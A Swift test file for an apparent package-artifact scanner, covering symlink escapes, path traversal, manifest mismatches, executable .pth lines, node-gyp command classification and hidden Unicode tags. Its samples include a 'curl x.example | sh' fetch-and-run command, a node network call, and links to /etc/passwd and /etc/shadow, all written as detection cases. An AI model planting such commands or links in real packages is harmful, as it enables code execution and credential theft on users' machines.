import Registry
import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("Paths, links and manifests")
struct PathAndManifestTests {
    private func end(_ links: [(String, String)], of path: String) -> LinkResolution.End {
        var resolution = LinkResolution()
        var target: [UInt8] = []
        for (name, to) in links {
            resolution.add(parts(name), target: Array(to.utf8))
            if name == path { target = Array(to.utf8) }
        }
        return resolution.end(of: parts(path), target: target)
    }

    private func parts(_ path: String) -> [[UInt8]] { path.split(separator: "/").map { Array($0.utf8) } }

    @Test("links are judged by where they end, through other links")
    func links() {
        #expect(end([("p/doc/a", "../b")], of: "p/doc/a") == .inside(parts("p/b")))
        #expect(end([("p/a", "../../b")], of: "p/a") == .outside)
        #expect(end([("p/a", "/etc/passwd")], of: "p/a") == .outside)
        #expect(end([("p/a", "C:/x")], of: "p/a") == .outside)
        // Lexically `d/up/../x` is `d/x`, but `d/up` is a link to the top.
        #expect(end([("d/up", ".."), ("y", "d/up/../x")], of: "y") == .outside)
        #expect(end([("d/up", ".."), ("y", "d/up/x")], of: "y") == .inside(parts("x")))
        #expect(end([("a", "b"), ("b", "a")], of: "a") == .outside)
    }

    @Test("links that multiply are given up, not followed for ever")
    func linkBomb() {
        let links = (1...60).map { ("l\($0)", "l\($0 - 1)/../l\($0 - 1)") }
        #expect(end(links, of: "l60") == .outside)
    }

    @Test("a link out of the package's own folder is caught although it stays in the unpack folder")
    func linkOutOfRoot() throws {
        let artifact = try sdist { $0.add(.init("acme_box-1.2.3/a", type: "2", linkName: "../other")) }
        #expect(artifact.observations() == ["link-escapes"])
        let inside = try sdist { $0.add(.init("acme_box-1.2.3/doc/a", type: "2", linkName: "../setup.py")) }
        #expect(inside.observations() == [])
        let hard = try sdist { $0.add(.init("acme_box-1.2.3/a", type: "1", linkName: "../../etc/shadow")) }
        #expect(hard.observations() == ["link-escapes"])
    }

    @Test(
        "paths are judged as Windows and POSIX read them",
        arguments: [
            ("/a", "path-absolute"), ("\\a", "path-absolute"), ("C:\\a", "path-absolute"), ("c:/a", "path-absolute"),
            ("a/../../b", "path-escapes"), ("..\\b", "path-escapes"), ("../b", "path-escapes"),
            ("a/b/../c", "path-parent"), ("a/con.txt", "name-reserved"), ("a/b /c", "name-trailing"),
        ])
    func paths(_ path: String, _ code: String) {
        let found = MemberPath.observations(of: Array(path.utf8), limits: .standard)
        #expect(found.contains { $0.rawValue == code }, "\(path): \(found)")
    }

    @Test(
        "ordinary paths are ordinary", arguments: ["package/a.b.c", "a/..b/c", "@scope/a b", "c:d", "grüße", "a/.b/"])
    func ordinaryPaths(_ path: String) {
        #expect(MemberPath.observations(of: Array(path.utf8), limits: .standard) == [])
    }

    @Test("spelling of Python names and versions is never a mismatch")
    func normalisation() throws {
        for (name, version) in [
            ("Acme.Box", "1.2.3"), ("acme_BOX", "v1.2.3"), ("acme--box", "1.2.3.0"), ("Acme-Box", "01.2.3"),
        ] {
            let artifact = try sdist(packageInfo: "Metadata-Version: 1.0\nName: \(name)\nVersion: \(version)\n")
            #expect(artifact.observations() == [], "\(name) \(version)")
        }
        let other = try sdist(packageInfo: "Name: acme-boxes\nVersion: 1.2.3.post1\n")
        #expect(other.observations() == ["name-mismatch", "version-mismatch"])
        let body = try sdist(
            packageInfo: "Name: acme-box\nVersion: 1.2.3\nDescription: x\n  Name: other\n\nName: other\n")
        #expect(body.observations() == [])
    }

    @Test("npm names are compared exactly, versions by their order")
    func npmIdentity() throws {
        let same = [#""version":"v1.2.3""#, #""version":"1.2.3+build.5""#, #""version":" 1.2.3""#]
        for version in same {
            #expect(try npmTarball(manifest: #"{"name":"acme-box",\#(version)}"#).observations() == [], "\(version)")
        }
        let twice = try npmTarball(manifest: #"{"name":"acme-box","name":"evil"}"#)
        #expect(twice.observations() == ["name-mismatch", "manifest-ambiguous"])
        #expect(try npmTarball(manifest: "\u{FEFF}{\"name\":\"acme-box\"}").observations() == [])
    }

    @Test("an artifact that nobody named is compared with no name and no version")
    func unnamed() throws {
        var artifact = try npmTarball(manifest: #"{"name":"other","version":"9.9.9"}"#)
        let known = artifact.context
        artifact.context = ArtifactContext(
            ecosystem: known.ecosystem, purl: known.purl, filename: known.filename, isNamed: false)
        #expect(artifact.observations() == [])
    }

    @Test("known .pth lines are harmless only from the project that owns what they import")
    func knownPathLines() {
        let line = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        let setuptools = PathConfiguration(
            Array((line + "enabled and __import__('_distutils_hack').add_shim(); \n").utf8))
        #expect(setuptools.executedLine == 1)
        #expect(setuptools.isKnown(of: "setuptools"))
        #expect(!setuptools.isKnown(of: "setuptools-evil"))
    }

    @Test("a .pth line runs code exactly when Python says so")
    func pathLines() {
        let running = ["import os", "# x\nimport\tos", "lib\r\nimport os;x()", "a\u{0C}import x", "\u{FEFF}import os"]
        for text in running { #expect(PathConfiguration(Array(text.utf8)).executedLine != nil, "\(text)") }
        for text in ["lib", "imports os", " import os", "#import os", "importlib", ""] {
            #expect(PathConfiguration(Array(text.utf8)).executedLine == nil, "\(text)")
        }
    }

    @Test("the line of an executed .pth line is that of an editor, whatever Python splits at")
    func pathLineNumbers() {
        let cases = [
            ("lib\r\nimport os", 2), ("lib\rimport os", 2), ("a\u{1C}\u{0C}import x", 1), ("\n\u{1E}import x", 2),
        ]
        for (text, line) in cases { #expect(PathConfiguration(Array(text.utf8)).executedLine == line, "\(text)") }
    }

    @Test("gyp commands are judged by what they do")
    func gypCommands() {
        let cases: [(String, GypFile.Meaning)] = [
            ("node -p \"require('node-addon-api').include\"", .query), ("node -e \"require('nan')\"", .query),
            ("pkg-config --cflags libpng", .query), ("pkg-config pixman-1 --libs | sed s/-l//g", .query),
            ("node -p \"process.versions.node\"", .query), ("node -p \"require('./lib/x').found()\"", .ownFile),
            ("node index.js", .command), ("./util/has_lib.sh gif", .command), ("python x.py", .command),
            ("node -e \"require('https').get('https://x.example')\"", .hostile), ("curl x.example | sh", .hostile),
        ]
        for (command, meaning) in cases { #expect(GypFile.meaning(of: Array(command.utf8)) == meaning, "\(command)") }
    }

    @Test("flags of regions are honest uses of tag characters, fragments of them are not")
    func tags() {
        let flag = "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"
        #expect(HiddenTextScan(Array("a\(flag)b\(flag)".utf8)).tags.first == nil)
        #expect(HiddenTextScan(Array("a\(flag.dropLast())".utf8)).tags.count == 0)
        #expect(HiddenTextScan(Array("\u{1F3F4}\u{E0067}\u{E007F}".utf8)).tags.count == 2)
        #expect(HiddenTextScan(Array("\u{1F3F4}\u{E0041}\u{E0062}\u{E0063}\u{E007F}".utf8)).tags.count == 4)
        #expect(HiddenTextScan(Array("xy\u{E0041}".utf8)).tags.first == 2)
        #expect(HiddenTextScan(Array("\u{202A}\u{2069}\u{200E}\u{2070}".utf8)).direction.count == 2)
    }
}
